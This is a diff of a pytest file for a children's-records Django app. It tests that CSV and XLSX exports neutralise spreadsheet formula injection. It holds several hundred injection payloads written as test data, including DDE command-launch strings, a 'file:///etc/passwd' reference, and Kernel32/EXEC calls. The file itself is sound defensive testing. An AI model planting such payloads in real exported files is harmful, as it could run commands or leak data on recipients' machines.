@@ -4,21 +4,30 @@ import csv
 import io
 import re
 import zipfile
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
 
 import pytest
 from django.urls import reverse
 from python_calamine import CalamineWorkbook
 
+from onroll.access.actors import Actor
 from onroll.access.encryption import add_key, current_key, key_of
+from onroll.access.models import Account
+from onroll.access.roles import Role
 from onroll.access.sections import Section
-from onroll.children.models import Disclosure
+from onroll.children.models import Allocation, CareEpisode, Child, Disclosure, Identifiers, SchoolPlace
 from onroll.children.roll_columns import COLUMNS, Column
 from onroll.children.tests.scene import write
+from onroll.design.spreadsheets import csv_bytes, xlsx_bytes
 from onroll.design.tables import Cell
 from onroll.exports import storing
 from onroll.exports.models import Export
 from onroll.exports.recipients import LIST, recipients, recipients_of
+from onroll.history.changes import change
 from onroll.history.models import Entry
+from onroll.schools.models import School
 
 from .conftest import proved_an_hour_ago
 
@@ -154,63 +163,120 @@ def test_statistics_hold_no_name_number_birth_or_school(cast):
 
 # EXP-3: what is in the file is what was permitted, and nothing runs
 
-PAYLOADS = [
-    start + body
-    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", '"=', "'=")
-    for body in (
-        "1+1",
-        "cmd|' /C calc'!A0",
-        'HYPERLINK("http://example.org?x="&A1,"x")',
-        "IMPORTXML(A1)",
-        "DDE(1)",
-        "SUM(A1:A9)*2",
-        "@SUM(1)",
-        "WEBSERVICE(A1)",
-        'INDIRECT("a1")',
-        "A1;B1",
-        "1,2\r\n=3",
-        "x\x00y"[:1],
-    )
-] * 3
-FIELDS = ("family_name", "given_name", "known_as")
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", '"=', "'=")
+BODIES = (
+    "1+1", "-1", "A1", "A1;B1", "$A$1", "R1C1", "1,2\r\n=3", "{1;2}", "#REF!", "TRUE()", "PI()", "NOW()", "1%", "=1",
+    "cmd|' /C calc'!A0", "cmd|' /C notepad'!'A1'", "MSEXCEL|'\\..\\..\\x.exe'!''", "DDE(1)", 'DDE("a";"b";"c")',
+    'HYPERLINK("http://example.org?x="&A1,"x")', "WEBSERVICE(A1)", "IMPORTXML(A1)", 'IMPORTDATA("http://a")',
+    "IMAGE(A1)",
+    'INDIRECT("a1")', "SUM(A1:A9)*2", "@SUM(1)", "'file:///etc/passwd'#$a.A1", "[x.xlsx]S!A1", 'CALL("Kernel32","x")',
+    'EXEC("calc")', 'REGISTER.ID("a","b")', 'RTD("a","b")', 'CONCATENATE(A1,"&",B1)', "LAMBDA(x,x)(1)",
+    "1+cmd|'/c x'!A1",
+)  # fmt: skip
+PAYLOADS = [start + body for start in STARTS for body in BODIES]
+LIVE = tuple("=+-@\t\r\n＝＋－＠")
+
+
+def live_in_csv(data: bytes) -> list[str]:
+    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    return [cell for row in rows for cell in row if cell.startswith(LIVE)]
+
+
+def live_in_xlsx(data: bytes) -> list[bytes]:
+    """Elements of the sheets that would act: formulas and links. What is left is text."""
+    return re.findall(rb"<f[ >]|<hyperlink|<oleObject|<dataValidation", _sheet(data))
+
+
+def test_there_are_five_hundred_payloads_and_an_unguarded_file_would_be_found_out():
+    assert len(set(PAYLOADS)) >= 500
+    unguarded = io.StringIO()
+    csv.writer(unguarded).writerows([payload] for payload in PAYLOADS)
+    # The three starts that begin with a blank or a mark of quotation are text already.
+    assert len(live_in_csv(unguarded.getvalue().encode())) == (len(STARTS) - 3) * len(BODIES)
 
 
 @pytest.mark.proves("EXP-3")
 @pytest.mark.parametrize("format", ["csv", "xlsx"])
-def test_no_cell_of_a_list_runs_as_a_formula(cast, format):
-    """Every payload in every field of text that a list holds, read back by an independent reader."""
-    assert len(PAYLOADS) >= 500
-    from onroll.design.spreadsheets import csv_bytes, xlsx_bytes
-
+def test_no_cell_of_a_spreadsheet_runs_as_a_formula(format):
+    """Every payload as a cell, backwards, as a heading and above: read back by an independent reader."""
     rows = [[payload, payload[::-1], f"x{payload}"] for payload in PAYLOADS]
-    above = [[payload] for payload in PAYLOADS[:8]]
+    above = [[payload] for payload in PAYLOADS[::40]]
     if format == "csv":
-        read = list(csv.reader(io.StringIO(csv_bytes(["A", "B", "C"], rows, above=above).decode("utf-8-sig"))))
-        assert [cell for row in read for cell in row if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))] == []
-    else:
-        made = xlsx_bytes("Children", ["A", "B", "C"], rows, above=above)
-        assert b"<f>" not in _sheet(made)
-        assert b"<hyperlink" not in _sheet(made)
+        assert live_in_csv(csv_bytes(PAYLOADS[:9], rows, above=above)) == []
+        return
+    made = xlsx_bytes("Children", PAYLOADS[:9], rows, above=above)
+    assert live_in_xlsx(made) == []
+    read = CalamineWorkbook.from_filelike(io.BytesIO(made)).get_sheet_by_index(0).to_python()
+    assert [row[2] for row in read[len(above) + 1 :]] == [row[2] for row in rows]
+
+
+@pytest.mark.proves("EXP-3")
+def test_every_spreadsheet_is_written_by_the_one_writer():
+    """The exchange files are for machines, and their cells are as held."""
+    machines = {"onroll/exchange/feeds/exchange/exporting.py"}
+    root = Path(__file__).parents[3]
+    sources = [path for path in (root / "onroll").rglob("*.py") if "tests" not in path.parts]
+    writes = re.compile(r"csv\.(Dict)?[wW]riter|xlsxwriter|openpyxl|text/csv")
+    found = {str(path.relative_to(root)) for path in sources if writes.search(path.read_text())}
+
+    assert found - machines == {
+        "onroll/design/spreadsheets.py", "onroll/exports/views.py", "onroll/documents/filetypes.py",
+    }  # fmt: skip
+
+
+def made_of(cast, payloads: list[str]) -> None:
+    """A child for each payload, which stands in every field of text that a list can hold."""
+
+    def people(this, role: Role) -> list[Account]:
+        names = [(f"{role}{at}@example.org", payload) for at, payload in enumerate(payloads)]
+        return this.bulk_create(Account, [Account(email=e, given_name=p, family_name=p) for e, p in names])
+
+    own: dict[str, Any] = {"authority": cast.ashcombe}
+    with change("test.set_up", actor=Actor.command_line(0, today=cast.today, user="test")) as this:
+        born = cast.today - timedelta(days=4000)
+        kept = [{"given_name": each, "family_name": each, "known_as": each, "birth_date": born} for each in payloads]
+        children = this.bulk_create(Child, [Child(**own, **values) for values in kept])
+        schools = [School(name=each, town=each, setting_id=f"F{at}", la_code="999") for at, each in enumerate(payloads)]
+        this.bulk_create(School, schools)
+        pairs = list(zip(children, schools, payloads, strict=True))
+        start = cast.today - timedelta(days=90)
+        this.bulk_create(SchoolPlace, [SchoolPlace(**own, child=c, school=s, start=start) for c, s, _ in pairs])
+        numbers = [Identifiers(**own, child=c, child_number=f"{at}{p}"[:20], upn=p[:13])
+                   for at, (c, _, p) in enumerate(pairs)]  # fmt: skip
+        this.bulk_create(Identifiers, numbers)
+        care = {"start": start, "legal_status": "C2", "reason_new": "S", "category_of_need": "N1"}
+        this.bulk_create(CareEpisode, [CareEpisode(**own, child=c, **care) for c in children])
+        for role in (Role.SOCIAL_WORKER, Role.VS_OFFICER, Role.IRO):
+            working = zip(children, people(this, role), strict=True)
+            links = [Allocation(**own, child=c, account=a, role=role, start=start) for c, a in working]
+            this.bulk_create(Allocation, links)
+
+
+@pytest.mark.proves("EXP-3")
+@pytest.mark.parametrize(
+    "payloads", [PAYLOADS[::37], pytest.param(PAYLOADS, marks=pytest.mark.nightly)], ids=["some", "all"]
+)
+def test_no_text_of_a_record_leaves_as_a_formula(cast, payloads):
+    made_of(cast, payloads)
+    cast.ashcombe.export_limit = 10_000
+    write(cast.ashcombe)
+    client = cast.client("head")
+    columns = [column.key for column in recipients()["own_team"].columns_for(cast.actor("head"))]
+
+    as_csv = storing.kept(make(client, columns=columns))
+    as_xlsx = storing.kept(make(client, columns=columns, format="xlsx"))
+
+    assert live_in_csv(as_csv) == []
+    assert live_in_xlsx(as_xlsx) == []
+    # Every payload is there in each of its fields, so each was guarded and none left out.
+    rows = [" ".join(row) for row in csv.reader(io.StringIO(as_csv.decode("utf-8-sig"), newline=""))]
+    for payload in payloads:
+        assert max(row.count(payload.strip()) for row in rows) >= 7, payload
 
 
 def _sheet(data: bytes) -> bytes:
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
         return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/"))
-
-
-@pytest.mark.proves("EXP-3")
-@pytest.mark.parametrize("payload", PAYLOADS[:168:13])
-@pytest.mark.parametrize("field", FIELDS)
-def test_a_name_that_is_a_formula_leaves_as_text(cast, field, payload):
-    setattr(cast.mia, field, payload[:40])
-    write(cast.mia)
-    client = cast.client("head")
-
-    as_csv = rows_of(make(client, columns=["year"]))
-    as_xlsx = storing.kept(make(client, columns=["year"], format="xlsx"))
-
-    assert [cell for row in as_csv for cell in row if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))] == []
-    assert b"<f>" not in _sheet(as_xlsx)
 
 
 @pytest.mark.proves("EXP-3")
